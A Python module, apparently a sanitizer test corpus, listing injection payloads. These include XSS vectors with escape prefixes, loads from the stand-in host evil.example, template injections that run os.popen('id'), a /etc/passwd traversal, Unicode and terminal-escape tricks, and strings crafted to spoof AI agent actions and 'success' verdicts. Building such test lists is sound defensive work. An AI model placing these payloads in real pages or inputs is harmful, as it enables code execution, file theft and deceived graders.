"""Texts that a page or a model may write to run code, to load something or to look like something else, wherever they are put."""

OWNED = "window.owned=1"
ELSEWHERE = "http://evil.example"

ESCAPES = ("", "</pre>", "</script>", "</style>", '">', "'>", "--><!-->", "]]>", "</summary></details></main>", "</textarea></title>")

VECTORS = (
    f"<script>{OWNED}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<SCRIPT/x>{OWNED}//",
    f"<img src=x onerror={OWNED}>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<svg/onload={OWNED}>",
    f"<svg><script href=data:,{OWNED} />",
    f"<body onload={OWNED}>",
    f"<details open ontoggle={OWNED}>",
    f"<input autofocus onfocus={OWNED}>",
    f"<iframe srcdoc='<script>parent.{OWNED}</script>'></iframe>",
    f"<iframe src=javascript:parent.{OWNED}></iframe>",
    f"<object data={ELSEWHERE}/x.svg></object>",
    f"<embed src=javascript:{OWNED}>",
    f"<a href=javascript:{OWNED}>here</a>",
    f"<math><mi//xlink:href='data:x,<script>{OWNED}</script>'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';*{{background:url({ELSEWHERE}/y.png)}}</style>",
    f"<div style='background:url({ELSEWHERE}/z.png);width:expression({OWNED})'>",
    f"<video src={ELSEWHERE}/x.mp4 onerror={OWNED} autoplay></video>",
    f"<form action={ELSEWHERE}><button formaction=javascript:{OWNED}>Show all</button></form>",
)

OTHERS = (
    *(f"{{{{ {code} }}}}" for code in ("7 * 7", "cycler.__init__.__globals__.os.popen('id').read()", "''.__class__.__mro__[1]")),
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a comment #} {%- raw -%} ${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    f"javascript:{OWNED}//",
    f"data:text/html,<script>{OWNED}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{OWNED}",
    f"';{OWNED};//",
    f'";{OWNED};//',
    f"`${{{OWNED}}}`",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"&lt;script&gt;{OWNED}&lt;/script&gt;&#60;img src=x onerror={OWNED}&#62;",
    f"<scr\x00ipt>{OWNED}</scr\x00ipt>",
    f"<img\x0bsrc=x\x0conerror={OWNED}>",
    f"\ufeff<script>{OWNED}</script>",
    f"+ADw-script+AD4-{OWNED}+ADw-/script+AD4-",
    f"\u2028{OWNED}\u2029//",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b0m",
    "\u202egnp.exe\u202c \u2066\u2067\u2069\u200e\u200f\u061c",
    "inv\u200bis\u200cib\u200dle\u2060\u00ad\ufe00\U000e0041",
    "\ud800\udfff\udc00 half of a character",
    "\x00\x01\x08\x7f\x80\x85\x9f",
    "Z\u0363\u0364\u0365a" * 200,
    "<" * 20_000,
    "&" * 20_000,
    f"{'A' * 200_000}<img src=x onerror={OWNED}>",
    "\n" * 5_000 + "\r\r\n",
    f"<think>{OWNED}</think><script>{OWNED}</script>",
    f'# Element: <script>{OWNED}</script>\ndo(action="Click", element="<img src=x onerror={OWNED}>")',
    "../../../../etc/passwd",
    "x' data-verdict='success' hidden onclick='window.owned=1",
    'x" data-verdict="success" hidden onclick="window.owned=1',
)

PAYLOADS = (*(escape + vector for escape in ESCAPES for vector in VECTORS), *OTHERS)
